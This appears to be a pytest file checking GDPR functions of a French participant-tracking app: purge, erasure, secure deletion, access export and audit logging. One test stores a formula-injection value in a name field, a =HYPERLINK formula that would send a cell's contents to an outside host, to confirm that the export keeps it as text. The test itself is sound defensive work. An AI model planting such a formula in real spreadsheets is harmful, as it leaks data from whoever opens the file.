"""GDPR duties: last contact, retention purge, erasure, right of access, consent, audit."""

from __future__ import annotations

import shutil
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import func, select

from coachdesk.db import open_database
from coachdesk.errors import UserError
from coachdesk.exports.access import write_access_workbook
from coachdesk.models import AuditEvent, Contract, FollowUpVisit, Outreach, Participant
from coachdesk.services import gdpr, recruitment
from coachdesk.services.demo import build_demo
from tests import builders as b
from tests.security_support import add_people


@pytest.fixture(scope="module")
def demo_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("demo") / "demo.sqlite3"
    db = open_database(path)
    build_demo(db)
    db.dispose()
    return path


@pytest.fixture
def demo(demo_template: Path, tmp_path: Path):
    path = tmp_path / "demo.sqlite3"
    shutil.copyfile(demo_template, path)
    db = open_database(path)
    yield db
    db.dispose()


def test_last_contact_is_the_latest_dated_event(tmp_path: Path) -> None:
    db = open_database(tmp_path / "base.sqlite3")
    (person,) = add_people(db, 1)  # listed 01/02/2010, phoned 10/02/2010
    with db.read() as session:
        assert gdpr.last_contact_dates(session)[person] == date(2010, 2, 10)
        cohort_id = session.get(Participant, person).cohort_id
    b.outcome(db, person, "cours_du_soir", date(2011, 5, 5))
    with db.read() as session:
        assert gdpr.last_contact_dates(session)[person] == date(2011, 5, 5)
    for starts_at, status in ((datetime(2011, 6, 1, 14), "present"),
                              (datetime(2012, 1, 9, 14), "absent")):
        meeting = recruitment.create_info_session(db, cohort_id, starts_at, "Cnam")
        recruitment.invite(db, meeting, [person])
        recruitment.set_presence(db, meeting, {person: status})
    with db.read() as session:
        # Present at a meeting counts, being absent from one does not.
        assert gdpr.last_contact_dates(session)[person] == date(2011, 6, 1)
    db.dispose()


def test_purge_preview_then_purge_leaves_only_an_anonymous_log(demo) -> None:
    today = date(2013, 1, 15)
    with demo.read() as session:
        total = session.scalar(select(func.count()).select_from(Participant))
        latest = gdpr.last_contact_dates(session)
        preview = gdpr.purge_candidates(demo, today)
        names = {(c.last_name, c.first_name) for c in preview}
    expected = {pid for pid, day in latest.items() if day < date(2011, 1, 15)}
    assert {c.participant_id for c in preview} == expected
    assert 0 < len(preview) < total  # the contract holders followed into 2011 stay
    # Ten years of retention: nobody yet.
    assert gdpr.purge_candidates(demo, today, years=10) == []

    with demo.write() as session:
        assert gdpr.purge(session, today) == len(preview)
    with demo.read() as session:
        assert session.scalar(select(func.count()).select_from(Participant)) == total - len(
            preview
        )
        assert gdpr.remaining_rows(session, expected) == {}
        assert gdpr.purge_candidates(demo, today) == []
        event = session.execute(select(AuditEvent).where(AuditEvent.action == "purge")).scalar_one()
        assert event.count == len(preview)
        assert "2 ans" in event.detail
        assert not any(last in event.detail or first in event.detail for last, first in names)


def test_erase_removes_one_person_everywhere_and_from_the_file(tmp_path: Path, demo) -> None:
    with demo.read() as session:
        # A contract holder with follow-up visits: the person with the most kinds of records.
        holder = session.execute(
            select(Contract.participant_id, Contract.id)
            .join(FollowUpVisit, FollowUpVisit.contract_id == Contract.id)
            .limit(1)
        ).one()
        total = session.scalar(select(func.count()).select_from(Participant))
    with demo.write() as session:
        rows = gdpr.erase(session, holder.participant_id)
    assert rows > 5
    with demo.read() as session:
        assert gdpr.remaining_rows(session, [holder.participant_id]) == {}
        visits = select(func.count()).where(FollowUpVisit.contract_id == holder.id)
        assert session.scalar(visits) == 0
        assert session.scalar(select(func.count()).select_from(Participant)) == total - 1
        erasure = select(AuditEvent).where(AuditEvent.action == "erasure")
        event = session.execute(erasure).scalar_one()
        assert event.count == 1 and holder.participant_id not in event.detail
    with demo.write() as session, pytest.raises(UserError, match="Aucune personne"):
        gdpr.erase(session, holder.participant_id)

    # On disk too: deleted rows are overwritten (secure_delete), not left in free pages.
    path = tmp_path / "seule.sqlite3"
    db = open_database(path)
    (person,) = add_people(db, 1, last_name="Effacemoi")
    db.dispose()
    assert b"zenobie0@example.org" in path.read_bytes()
    db = open_database(path)
    with db.write() as session:
        gdpr.erase(session, person)
    db.dispose()
    assert b"zenobie0@example.org" not in path.read_bytes()
    assert b"zenobie effacemoi" not in path.read_bytes()


def test_access_workbook_holds_everything_about_one_person(tmp_path: Path, demo) -> None:
    with demo.read() as session:
        person = session.execute(
            select(Participant.id, Participant.last_name, Participant.first_name)
            .join(Contract, Contract.participant_id == Participant.id)
            .join(Outreach, Outreach.participant_id == Participant.id)
            .limit(1)
        ).one()
    out = tmp_path / "acces.xlsx"
    records = write_access_workbook(demo, person.id, out)
    assert records > 5
    assert [p.name for p in tmp_path.iterdir() if p.name != "demo.sqlite3" and
            not p.name.startswith("demo.sqlite3-")] == ["acces.xlsx"]
    book = openpyxl.load_workbook(out)
    assert book.sheetnames[0] == "Personne"
    assert {"Prises de contact", "Contrats", "Visites de suivi", "Sorties"} <= set(book.sheetnames)
    identity = {row[0]: row[1] for row in book["Personne"].iter_rows(min_row=2, values_only=True)}
    assert identity["Nom"] == person.last_name and identity["Prénom"] == person.first_name
    assert isinstance(identity["Inscrit·e au fichier le"], datetime)  # a real Excel date
    assert identity["Dernier contact"] is not None
    contact_rows = list(book["Prises de contact"].iter_rows(values_only=True))
    channel = contact_rows[0].index("Canal")
    assert contact_rows[1][channel] in {"Téléphone", "Mailing", "Courriel", "SMS",
                                        "Courrier", "Invitation Mission Locale"}
    contracts = list(book["Contrats"].iter_rows(values_only=True))
    assert len(contracts) >= 2 and "Début" in contracts[0]
    with demo.read() as session:
        logged = session.execute(
            select(AuditEvent.action, AuditEvent.count).where(AuditEvent.action == "access_export")
        ).one()
    assert logged.count == records


def test_missing_consent_is_listed(tmp_path: Path) -> None:
    db = open_database(tmp_path / "base.sqlite3")
    ids = add_people(db, 3)
    with db.write() as session:
        session.get(Participant, ids[1]).consent_date = date(2010, 2, 12)
    missing = gdpr.missing_consent(db)
    db.dispose()
    assert [m.participant_id for m in missing] == [ids[0], ids[2]]


def test_access_workbook_keeps_hostile_text_as_text_and_logs_only_the_id(
    tmp_path: Path, demo
) -> None:
    """Case 6 and 7 of the trust issue: a name typed as a formula stays text, a note with a
    control character is written (not a crash), and the audit log names no file."""
    with demo.write() as session:
        person = session.execute(select(Participant).limit(1)).scalar_one()
        person.last_name = '=HYPERLINK("http://example.org/?x="&A1,"Cliquez")'
        person.notes = "appelée le 12\x07 puis\x1b relancée"
        person_id = person.id
    out = tmp_path / "acces-Dupont-Marie.xlsx"
    write_access_workbook(demo, person_id, out)
    book = openpyxl.load_workbook(out)
    identity = {row[0]: row[1] for row in book["Personne"].iter_rows(min_row=2, values_only=True)}
    assert identity["Nom"] == '=HYPERLINK("http://example.org/?x="&A1,"Cliquez")'
    nom = next(row for row in book["Personne"].iter_rows(min_row=2) if row[0].value == "Nom")
    assert nom[1].data_type == "s"  # text, not a formula
    # Written with Excel's own escapes of control characters, which Excel decodes on opening.
    notes = identity["Notes"].replace("_x0007_", "\x07").replace("_x001B_", "\x1b")
    assert notes == "appelée le 12\x07 puis\x1b relancée"
    with demo.read() as session:
        detail = session.execute(
            select(AuditEvent.detail).where(AuditEvent.action == "access_export")
        ).scalar_one()
    assert person_id in detail
    assert "Dupont" not in detail and "acces-" not in detail and ".xlsx" not in detail


def test_erasure_leaves_nothing_in_the_write_ahead_log(tmp_path: Path) -> None:
    """Case 7: after an erasure the person's name and phone are in neither the file nor its
    -wal (checkpointed and emptied), while another connection keeps the database open."""
    path = tmp_path / "base.sqlite3"
    db = open_database(path)
    (person,) = add_people(db, 1, last_name="Walfantome")
    with db.write() as session:
        row = session.get(Participant, person)
        row.last_name, row.phone = "Canarywal", "06 98 76 54 32"
    wal = path.with_name(path.name + "-wal")
    assert b"Canarywal" in wal.read_bytes()
    gdpr.erase_for_good(db, person)
    for part in (path, wal):
        data = part.read_bytes() if part.exists() else b""
        assert b"Canarywal" not in data and b"06 98 76 54 32" not in data, part.name
    db.dispose()
